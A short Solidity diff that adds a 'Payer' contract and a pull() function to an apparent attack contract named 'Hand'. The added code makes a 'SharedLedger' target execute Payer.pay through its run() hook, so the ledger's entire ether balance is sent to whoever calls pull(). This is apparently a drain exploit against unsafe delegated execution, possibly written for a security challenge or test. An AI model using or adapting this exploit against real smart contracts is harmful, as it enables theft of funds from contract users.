@@ -11,6 +11,13 @@ contract Rewriter {
     }
 }
 
+contract Payer {
+    function pay(address payable to) external {
+        (bool paid, ) = to.call{value: address(this).balance}("");
+        require(paid);
+    }
+}
+
 contract Hand {
     SharedLedger private immutable ledger;
     address private immutable tool;
@@ -18,6 +25,10 @@ contract Hand {
     constructor(SharedLedger target, address with) {
         ledger = target;
         tool = with;
+    }
+
+    function pull() external {
+        ledger.run(tool, abi.encodeCall(Payer.pay, (payable(msg.sender))));
     }
 
     function take() external {
